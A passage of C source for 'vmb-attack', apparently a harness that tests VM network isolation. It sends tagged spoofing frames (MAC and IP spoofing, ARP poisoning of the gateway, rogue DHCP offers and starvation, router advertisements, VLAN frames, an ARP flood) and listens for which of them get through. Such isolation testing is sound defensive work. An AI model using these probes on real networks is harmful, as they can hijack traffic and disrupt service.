        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(GW_TCP_PORT), .sin_addr.s_addr = gw_ip};
        bool connected = false;
        if (s >= 0 && gw_ip) {
                if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0)
                        connected = true;
                else if (errno == EINPROGRESS) {
                        struct pollfd p = {.fd = s, .events = POLLOUT};
                        int e = -1;
                        socklen_t l = sizeof(e);
                        connected = poll(&p, 1, 5000) == 1 && getsockopt(s, SOL_SOCKET, SO_ERROR, &e, &l) == 0 && e == 0;
                }
        }
        if (s >= 0)
                close(s);
        out("VMB-PROBE gw-tcp sent n=1 reply=%s port=%d", connected ? "yes" : "no", GW_TCP_PORT);
}

/* our kernel asks the gateway's DNS port (a responder of the test), the tag as the name */
static void probe_dns_gw(void) {
        uint8_t q[128], r[512];
        int sent = 0, s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        bool answered = false;
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = gw_ip};
        for (unsigned k = 0; s >= 0 && gw_ip && k < 3 && !answered; k++) {
                memset(q, 0, 12);
                put16(q, (uint16_t)(0x5600 + k)); /* id */
                put16(q + 2, 0x0100);            /* a standard query, recursion desired */
                put16(q + 4, 1);
                size_t tl = put_tag(q + 13, "dns-gw", k);
                q[12] = (uint8_t)tl;
                size_t n = 13 + tl;
                q[n++] = 0;
                put16(q + n, 1); /* A */
                put16(q + n + 2, 1);
                n += 4;
                sent += sendto(s, q, n, 0, (struct sockaddr *)&a, sizeof(a)) == (ssize_t)n;
                struct pollfd p = {.fd = s, .events = POLLIN};
                while (!answered && poll(&p, 1, 1000) == 1) {
                        ssize_t m = recv(s, r, sizeof(r), 0);
                        answered = m >= 12 && r[0] == q[0] && r[1] == q[1] && (r[2] & 0x80);
                }
        }
        if (s >= 0)
                close(s);
        out("VMB-PROBE dns-gw sent n=%d reply=%s", sent, answered ? "yes" : "no");
}

static void probe_vlan(void) {
        uint8_t f[256], payload[64];
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                for (int bc = 0; bc < 2; bc++) {
                        size_t pl = put_tag(payload, "vlan", k);
                        size_t n = eth(f, bc ? BCAST : peer_mac, my_mac, ETH_P_8021Q);
                        n += vlan(f + n, 66, ETH_P_IP);
                        n += ipv4_udp(f + n, my_ip, bc ? INADDR_BROADCAST : peer_ip, 40000, 9, payload, pl);
                        sent += send_frame(f, n) == 0;
                }
                sleep_ms(100);
        }
        out("VMB-PROBE vlan sent n=%d vid=66", sent);
}

static void probe_rarp(void) {
        uint8_t f[128];
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                size_t n = eth(f, BCAST, my_mac, ETH_P_RARP);
                n += arp(f + n, 3, my_mac, 0, my_mac, 0);
                n += put_tag(f + n, "rarp", k);
                sent += send_frame(f, n) == 0;
                sleep_ms(100);
        }
        out("VMB-PROBE rarp sent n=%d", sent);
}

static void probe_other_ethertype(void) {
        uint8_t f[128];
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                for (int bc = 0; bc < 2; bc++) {
                        size_t n = eth(f, bc ? BCAST : peer_mac, my_mac, ETH_P_LOCAL_EXP);
                        n += put_tag(f + n, "ethertype-88b5", k);
                        sent += send_frame(f, n) == 0;
                }
                sleep_ms(100);
        }
        out("VMB-PROBE ethertype-88b5 sent n=%d", sent);
}

static void probe_unicast_foreign(void) {
        int sent = 0;
        for (unsigned k = 0; k < 3; k++) {
                sent += udp_frame("unicast-foreign", k, UNKNOWN_MAC, my_mac, my_ip, ip_of(UNKNOWN_IP), 40000, 9) == 0;
                sleep_ms(100);
        }
        out("VMB-PROBE unicast-foreign sent n=%d dst=%s", sent, mac_str(UNKNOWN_MAC));
}

/* broadcasts an isolated VM may send one by one (ARP probes: who-has, from its own MAC and
 * 0.0.0.0, which change no one's ARP cache), as fast as it can: only a rate limit stops a storm */
static void probe_flood(int count) {
        static const uint8_t zero[6];
        uint8_t f[128];
        int sent = 0;
        uint32_t target = ip_of(UNKNOWN_IP);
        uint64_t t0 = now_ms();
        for (int k = 0; k < count; k++) {
                size_t n = eth(f, BCAST, my_mac, ETH_P_ARP);
                n += arp(f + n, 1, my_mac, 0, zero, target);
                n += put_tag(f + n, "flood", (unsigned)k);
                sent += send_frame(f, n) == 0;
        }
        out("VMB-PROBE flood sent n=%d ms=%llu what=arp-probe-for-%s", sent, (unsigned long long)(now_ms() - t0),
            UNKNOWN_IP);
}

static int do_attack(int argc, char **argv) {
        if (argc < 1) {
                fprintf(stderr, "usage: vmb-attack attack PEER_IP [PEER_MAC|-] [FLOOD_N]\n");
                return 2;
        }
        peer_ip = ip_of(argv[0]);
        if (argc > 1 && strcmp(argv[1], "-") != 0) {
                if (parse_mac(argv[1], peer_mac) < 0) {
                        out("VMB-ATTACK-ERROR bad MAC %s", argv[1]);
                        return 2;
                }
                have_peer_mac = true;
        }
        int flood_n = argc > 2 ? atoi(argv[2]) : 5000;
        iface_info();
        if (!my_ip) {
                out("VMB-ATTACK-ERROR %s has no IPv4 address", ifname);
                return 2;
        }
        gw_ip = default_gateway();
        open_packet_socket(false);
        out("VMB-ATTACK-START iface=%s mac=%s ip=%s gw=%s peer=%s peermac=%s flood=%d", ifname, mac_str(my_mac),
            ip_str(my_ip), gw_ip ? ip_str(gw_ip) : "none", ip_str(peer_ip), have_peer_mac ? mac_str(peer_mac) : "-",
            flood_n);

        /* legitimate: the gateway answers ARP and ping */
        int sent = 0;
        if (gw_ip)
                have_gw_mac = arp_ask("arp-gw", gw_ip, gw_mac, &sent) == 0;
        out("VMB-PROBE arp-gw sent n=%d reply=%s mac=%s", sent, have_gw_mac ? "yes" : "no",
            have_gw_mac ? mac_str(gw_mac) : "-");
        sent = 0;
        bool gw_ping = have_gw_mac && ping("ping-gw", gw_mac, gw_ip, &sent) == 0;
        out("VMB-PROBE ping-gw sent n=%d reply=%s", sent, gw_ping ? "yes" : "no");
        /* the host's services: DNS is for guests, the TCP listener is not (before any ARP probe
         * that could misdirect the host's answers in an unfiltered run) */
        probe_dns_gw();
        probe_gw_tcp();

        /* guest to guest: ARP for the peer, ping it, a UDP datagram, a frame for a guest elsewhere */
        uint8_t m[6];
        sent = 0;
        bool arp_reply = arp_ask("arp-peer", peer_ip, m, &sent) == 0;
        out("VMB-PROBE arp-peer sent n=%d reply=%s mac=%s", sent, arp_reply ? "yes" : "no", arp_reply ? mac_str(m) : "-");
        if (!have_peer_mac) {
                if (arp_reply)
                        memcpy(peer_mac, m, 6);
                else
                        memcpy(peer_mac, BCAST, 6); /* the bridge floods it: still a frame to the peer */
                have_peer_mac = true;
        }
        sent = 0;
        bool peer_ping = ping("ping-peer", peer_mac, peer_ip, &sent) == 0;
        out("VMB-PROBE ping-peer sent n=%d reply=%s", sent, peer_ping ? "yes" : "no");
        sent = 0;
        for (unsigned k = 0; k < 3; k++)
                sent += udp_frame("udp-peer", k, peer_mac, my_mac, my_ip, peer_ip, 40000, 9) == 0;
        out("VMB-PROBE udp-peer sent n=%d", sent);
        probe_unicast_foreign();

        /* spoofing */
        probe_spoofed_ip("mac-spoof", SPOOF_MAC, my_ip);
        probe_spoofed_ip("ip-spoof", my_mac, ip_of(FOREIGN_IP));
        probe_arp_gw_claim();
        probe_arp_sender("arp-foreign-ip", my_mac, ip_of(FOREIGN_IP));
        probe_dhcp_offer("dhcp-offer", 67);
        probe_dhcp_offer("dhcp-offer-6767", 6767);
        probe_dhcp_starve();
        probe_ra();
        probe_dhcpv6();
        probe_vlan();
        probe_rarp();
        probe_other_ethertype();
        probe_ipv6_spoof();
        probe_ipv6_na();
        probe_dhcp_decline();
        /* last of the ARP ones: in an unfiltered run it rewrites the gateway's entry for us */
        probe_arp_sender("arp-foreign-mac", SPOOF_MAC, my_ip);
        probe_flood(flood_n);
        out("VMB-ATTACK-END");
        return 0;
}

/* ---------- listen ---------- */

#define MAX_NAMES 64
static struct {
        char name[32];
        unsigned long count;
} seen[MAX_NAMES];
static int n_seen;
static unsigned long total_tags;

static void note_tag(const uint8_t *f, size_t n, const uint8_t *tag, size_t left, bool vlan_aux) {
        const char *p = (const char *)tag + strlen(TAG_PREFIX);
        size_t max = left - strlen(TAG_PREFIX), k = 0;
        char name[32];
        while (k < max && k < sizeof(name) - 1 && p[k] != ':' &&
               ((p[k] >= 'a' && p[k] <= 'z') || (p[k] >= '0' && p[k] <= '9') || p[k] == '-'))
                k++;
        if (k == 0 || k >= max || p[k] != ':')
                return;
        memcpy(name, p, k);
        name[k] = 0;
        total_tags++;
        for (int i = 0; i < n_seen; i++)
                if (!strcmp(seen[i].name, name)) {
                        seen[i].count++;
                        return;
                }
        if (n_seen == MAX_NAMES)
                return;
        snprintf(seen[n_seen].name, sizeof(seen[n_seen].name), "%s", name);
        seen[n_seen++].count = 1;
        uint16_t type = (uint16_t)(f[12] << 8 | f[13]);
        out("VMB-SEEN %s src=%s dst=%s type=0x%04x%s len=%zu", name, mac_str(f + 6), mac_str(f), type,
            vlan_aux ? " vlan=stripped" : "", n);
}

static void dump_state(void) {
        char line[512];
        FILE *f = fopen("/proc/net/arp", "re");
        if (f) {
                while (fgets(line, sizeof(line), f)) {
                        char a[64], hw[64];
                        unsigned type, flags;
                        if (sscanf(line, "%63s 0x%x 0x%x %63s", a, &type, &flags, hw) == 4)
                                out("VMB-ARP %s %s 0x%x", a, hw, flags);
                }
                fclose(f);
        }
        f = fopen("/proc/net/if_inet6", "re");
        if (f) {
                while (fgets(line, sizeof(line), f)) {
                        char hex[33], dev[32];
                        unsigned idx, plen, scope, flags;
                        if (sscanf(line, "%32s %x %x %x %x %31s", hex, &idx, &plen, &scope, &flags, dev) == 6 &&
                            scope == 0 && strcmp(dev, "lo") != 0)
                                out("VMB-IPV6 %s/%u dev=%s", hex, plen, dev);
                }
                fclose(f);
        }
        f = fopen("/proc/net/ipv6_route", "re");
        if (f) {
                while (fgets(line, sizeof(line), f)) {
                        char dst[33], src[33], nh[33], dev[32], skip[33];
                        unsigned dl, sl;
                        if (sscanf(line, "%32s %x %32s %x %32s %32s %32s %32s %32s %31s", dst, &dl, src, &sl, nh, skip,
                                   skip, skip, skip, dev) == 10 &&
                            dl == 0 && strcmp(dev, "lo") != 0 && strcmp(nh, "00000000000000000000000000000000") != 0)
                                out("VMB-ROUTE6 default via %s dev=%s", nh, dev);
                }
                fclose(f);
        }
}

/* the next DHCP answer (op 2) for xid: its message type (0: none before the deadline), the address
 * offered and the server id */
static uint8_t dhcp_answer(uint32_t xid, uint64_t deadline, uint32_t *ret_yiaddr, uint32_t *ret_server) {
        uint8_t r[2048];
        ssize_t m;
        while ((m = recv_frame(r, sizeof(r), deadline)) > 0) {
                if (m < 14 + 20 + 8 + 240 || r[12] != 0x08 || r[13] != 0x00 || r[23] != IPPROTO_UDP)
                        continue;
                size_t ihl = (size_t)(r[14] & 0xf) * 4;
                const uint8_t *u = r + 14 + ihl, *bp = u + 8, *end = r + m;
                uint32_t x = (uint32_t)bp[4] << 24 | (uint32_t)bp[5] << 16 | (uint32_t)bp[6] << 8 | bp[7];
                if (u[1] != 67 || u[3] != 68 || u[0] || u[2] || bp[0] != 2 || x != xid)
                        continue;
                uint8_t type = 0;
                memcpy(ret_yiaddr, bp + 16, 4);
                *ret_server = 0;
                for (const uint8_t *o = bp + 240; o + 2 < end && *o != 255; o += *o ? 2 + o[1] : 1) {
                        if (o[0] == 53)
                                type = o[2];
                        if (o[0] == 54 && o[1] == 4 && o + 6 <= end)
                                memcpy(ret_server, o + 2, 4);
                }
                if (type)
                        return type;
        }
        return 0;
}

/* get our address again from scratch, as a rebooted guest does (DISCOVER, then REQUEST what is
 * offered): "ack" (our address), "offer-other", "nak", "no-offer" (dnsmasq offers nothing for an
 * address declined in the last 10 minutes) or "no-ack" */
static const char *dhcp_rebind(void) {
        uint8_t f[600], b[400];
        uint32_t xid = 0x52454e00u | (uint32_t)(getpid() & 0xff), yiaddr = 0, server = 0;
        uint8_t type = 0;
        for (int k = 0; k < 3 && type != 2; k++) {
                size_t bl = bootp_client(b, xid, my_mac, 0, "rebind", 0, 1, 0, 0);
                size_t n = eth(f, BCAST, my_mac, ETH_P_IP);
                n += ipv4_udp(f + n, 0, INADDR_BROADCAST, 68, 67, b, bl);
                send_frame(f, n);
                type = dhcp_answer(xid, now_ms() + 2000, &yiaddr, &server);
        }
        if (type != 2)
                return type == 6 ? "nak" : "no-offer";
        if (yiaddr != my_ip)
                return "offer-other";
        size_t bl = bootp_client(b, xid, my_mac, 0, "rebind", 1, 3, my_ip, server);
        size_t n = eth(f, BCAST, my_mac, ETH_P_IP);
        n += ipv4_udp(f + n, 0, INADDR_BROADCAST, 68, 67, b, bl);
        send_frame(f, n);
        type = dhcp_answer(xid, now_ms() + 3000, &yiaddr, &server);
        return type == 5 && yiaddr == my_ip ? "ack" : type == 6 ? "nak" : "no-ack";
}

static int do_listen(int argc, char **argv) {
        int secs = argc > 0 ? atoi(argv[0]) : 300;
        if (secs <= 0)
                secs = 300;
        iface_info();
        open_packet_socket(true);
        int aux = 1;
        setsockopt(pkt_fd, SOL_PACKET, PACKET_AUXDATA, &aux, sizeof(aux));
        int us = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(STOP_PORT)};
        if (us < 0 || bind(us, (struct sockaddr *)&sa, sizeof(sa)) < 0)
                die("bind(udp stop port)");

        /* make the kernel learn the gateway's MAC, so a poisoning has an entry to overwrite */
        uint32_t gw = default_gateway();
        uint8_t gm[6] = {0};
        bool have_gm = false;
        if (gw) {
                int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
                struct sockaddr_in g = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = gw};
                for (int i = 0; i < 30 && !have_gm; i++) {
                        if (i % 10 == 0)
                                sendto(s, "hello", 5, 0, (struct sockaddr *)&g, sizeof(g));
                        sleep_ms(100);
                        have_gm = arp_cache_lookup(gw, gm) == 0;
                }
                close(s);
                sleep_ms(1500); /* past the neighbour locktime: a later ARP reply may override */
        }
        out("VMB-LISTENING iface=%s mac=%s ip=%s gw=%s gwmac=%s secs=%d", ifname, mac_str(my_mac), ip_str(my_ip),
            gw ? ip_str(gw) : "none", have_gm ? mac_str(gm) : "-", secs);

        const char *reason = "timeout";
        uint64_t t0 = now_ms(), deadline = t0 + (uint64_t)secs * 1000, next_arp = 0;
        static uint8_t buf[65536];
        char cbuf[CMSG_SPACE(sizeof(struct tpacket_auxdata))];
        while (now_ms() < deadline) {
                /* the gateway's entry in our ARP cache, whenever it changes: a poisoning shows
                 * here even if a later ARP from the real gateway repairs it */
                if (gw && now_ms() >= next_arp) {
                        uint8_t cur[6];
                        if (arp_cache_lookup(gw, cur) == 0 && memcmp(cur, gm, 6) != 0) {
                                memcpy(gm, cur, 6);
                                out("VMB-GW-MAC %s ms=%llu", mac_str(gm), (unsigned long long)(now_ms() - t0));
                        }
                        next_arp = now_ms() + 20;
                }
                struct pollfd p[2] = {{.fd = pkt_fd, .events = POLLIN}, {.fd = us, .events = POLLIN}};
                if (poll(p, 2, 20) <= 0)
                        continue;
                if (p[1].revents & POLLIN) {
                        char m[64];
                        ssize_t n = recv(us, m, sizeof(m) - 1, 0);
                        if (n >= 4 && !memcmp(m, "stop", 4)) {
                                reason = "stop";
                                break;
                        }
                        if (n >= 6 && !memcmp(m, "rebind", 6))
                                out("VMB-REBIND result=%s", dhcp_rebind());
                }
                if (!(p[0].revents & POLLIN))
                        continue;
                struct sockaddr_ll from;
                struct iovec iov = {.iov_base = buf, .iov_len = sizeof(buf)};
                struct msghdr mh = {.msg_name = &from,
                                    .msg_namelen = sizeof(from),
                                    .msg_iov = &iov,
                                    .msg_iovlen = 1,
                                    .msg_control = cbuf,
                                    .msg_controllen = sizeof(cbuf)};
                ssize_t n = recvmsg(pkt_fd, &mh, MSG_DONTWAIT);
                if (n < 14 || from.sll_pkttype == PACKET_OUTGOING)
                        continue;
                bool vlan_aux = false;
                for (struct cmsghdr *c = CMSG_FIRSTHDR(&mh); c; c = CMSG_NXTHDR(&mh, c))
                        if (c->cmsg_level == SOL_PACKET && c->cmsg_type == PACKET_AUXDATA) {
                                struct tpacket_auxdata ad;
                                memcpy(&ad, CMSG_DATA(c), sizeof(ad));
                                vlan_aux = ad.tp_status & TP_STATUS_VLAN_VALID;
                        }
                const uint8_t *t = memmem(buf, (size_t)n, TAG_PREFIX, strlen(TAG_PREFIX));
                if (t)
                        note_tag(buf, (size_t)n, t, (size_t)(buf + n - t), vlan_aux);
        }
        for (int i = 0; i < n_seen; i++)
                out("VMB-SEEN-COUNT %s %lu", seen[i].name, seen[i].count);
        dump_state();
        out("VMB-LISTEN-END reason=%s tags=%lu", reason, total_tags);
        return 0;
}

/* ---- tcp: TCP connects from our kernel ---- */

static const char *tcp_try(uint32_t ip, int port, char *banner, size_t blen) {
        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = ip};
        static char why[64];
        snprintf(banner, blen, "none");
        if (s < 0) {
                snprintf(why, sizeof(why), "error=%s", strerrorname_np(errno));
                return why;
        }
        int e = 0;
        if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
                e = errno;
                if (e == EINPROGRESS) {
                        struct pollfd p = {.fd = s, .events = POLLOUT};
                        socklen_t l = sizeof(e);
                        if (poll(&p, 1, 3000) != 1) {
                                close(s);
                                return "timeout";
                        }
                        if (getsockopt(s, SOL_SOCKET, SO_ERROR, &e, &l) < 0)
                                e = errno;
                }
        }
        if (e) {
                close(s);
                if (e == ECONNREFUSED)
                        return "refused";
                if (e == ETIMEDOUT)
                        return "timeout";
                snprintf(why, sizeof(why), "error=%s", strerrorname_np(e));
                return why;
        }
        char buf[13];
        size_t got = 0;
        uint64_t deadline = now_ms() + 3000;
        while (got < 12 && now_ms() < deadline) {
                struct pollfd p = {.fd = s, .events = POLLIN};
                if (poll(&p, 1, (int)(deadline - now_ms())) != 1)
                        break;
                ssize_t n = read(s, buf + got, 12 - got);
                if (n <= 0)
                        break;
                got += (size_t)n;
        }
        close(s);
        buf[got] = 0;
        if (got) {
                size_t k = 0;
                for (size_t i = 0; i < got && k + 1 < blen; i++) {
                        char c = buf[i];
                        if (c == '\n' || c == '\r')
                                break;
                        banner[k++] = (c == ' ') ? '_' : (c > ' ' && c < 127) ? c : '?';
                }
                banner[k] = 0;
        }
        return "ok";
}

static int do_tcp(int argc, char **argv) {
        if (argc < 1) {
                out("VMB-TCP-ERROR usage: tcp IP:PORT[-LASTPORT]...");
                return 2;
        }
        for (int i = 0; i < argc; i++) {
                char host[64], *colon = strrchr(argv[i], ':'), *dash;
                if (!colon || (size_t)(colon - argv[i]) >= sizeof(host)) {
                        out("VMB-TCP-ERROR bad target %s", argv[i]);
                        continue;
                }
                snprintf(host, sizeof(host), "%.*s", (int)(colon - argv[i]), argv[i]);
                int first = (int)strtol(colon + 1, &dash, 10), last = first;
                if (*dash == '-')
                        last = atoi(dash + 1);
                if (first < 1 || last > 65535 || last < first || last - first > 64) {
                        out("VMB-TCP-ERROR bad ports %s", colon + 1);
                        continue;
                }
                uint32_t ip = ip_of(host);
                for (int p = first; p <= last; p++) {
                        char banner[32];
                        const char *r = tcp_try(ip, p, banner, sizeof(banner));
                        if (!strcmp(r, "ok"))
                                out("VMB-TCP %s:%d ok banner=%s", host, p, banner);
                        else
                                out("VMB-TCP %s:%d %s", host, p, r);
                }
        }
        out("VMB-TCP-END");
        return 0;
}

/* ---- serialflood: the guest writes its serial port forever (here: BYTES) ---- */

static int write_all(int fd, const char *b, size_t n) {
        while (n) {
                ssize_t k = write(fd, b, n);
                if (k < 0 && errno == EINTR)
                        continue;
                if (k <= 0)
                        return -1;
                b += k;
                n -= (size_t)k;
        }
        return 0;
}

static int do_serialflood(int argc, char **argv) {
        if (argc < 2) {
                out("VMB-FLOOD-ERROR usage: serialflood DEVICE BYTES[K|M]");
                return 2;
        }
        char *end;
        unsigned long long want = strtoull(argv[1], &end, 10);
        if (*end == 'K' || *end == 'k')
                want <<= 10;
        else if (*end == 'M' || *end == 'm')
                want <<= 20;
        int fd = open(argv[0], O_WRONLY | O_NOCTTY | O_CLOEXEC);
        if (fd < 0) {
                out("VMB-FLOOD-ERROR open %s: %s", argv[0], strerror(errno));
                return 1;
        }
        struct termios old, raw;
        bool tty = tcgetattr(fd, &old) == 0;
        if (tty) {
                raw = old;
                raw.c_oflag &= ~(tcflag_t)OPOST; /* every byte we count is a byte on the wire */
                tcsetattr(fd, TCSANOW, &raw);
        }
        char buf[64 * 64];
        unsigned long long lines = 0, bytes = 0;
        uint64_t t0 = now_ms();
        while (bytes < want) {
                size_t n = 0;
                while (n < sizeof(buf) && bytes + n < want) {
                        char *l = buf + n;
                        int k = snprintf(l, 64, "VMB-FLOOD %08llu ", ++lines);
                        memset(l + k, 'x', (size_t)(63 - k));
                        l[63] = '\n';
                        n += 64;
                }
                if (write_all(fd, buf, n) < 0) {
                        out("VMB-FLOOD-ERROR write: %s", strerror(errno));
                        break;
                }
                bytes += n;
        }
        if (tty)
                tcdrain(fd);
        char fin[128];
        int k = snprintf(fin, sizeof(fin), "\nVMB-FLOOD-END lines=%llu bytes=%llu ms=%llu\n", lines, bytes,
                         (unsigned long long)(now_ms() - t0));
        write_all(fd, fin, (size_t)k);
        if (tty) {
                tcdrain(fd);
                tcsetattr(fd, TCSANOW, &old);
        }
        close(fd);
        return 0;
}

int main(int argc, char **argv) {
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc >= 2 && !strcmp(argv[1], "attack"))
                return do_attack(argc - 2, argv + 2);
        if (argc >= 2 && !strcmp(argv[1], "listen"))
                return do_listen(argc - 2, argv + 2);
        if (argc >= 2 && !strcmp(argv[1], "tcp"))
                return do_tcp(argc - 2, argv + 2);
        if (argc >= 2 && !strcmp(argv[1], "serialflood"))
                return do_serialflood(argc - 2, argv + 2);
        fprintf(stderr, "usage: vmb-attack attack PEER_IP [PEER_MAC|-] [FLOOD_N]\n"
                        "       vmb-attack listen SECONDS\n"
                        "       vmb-attack tcp IP:PORT[-LASTPORT]...\n"
                        "       vmb-attack serialflood DEVICE BYTES[K|M]\n");
        return 2;
}
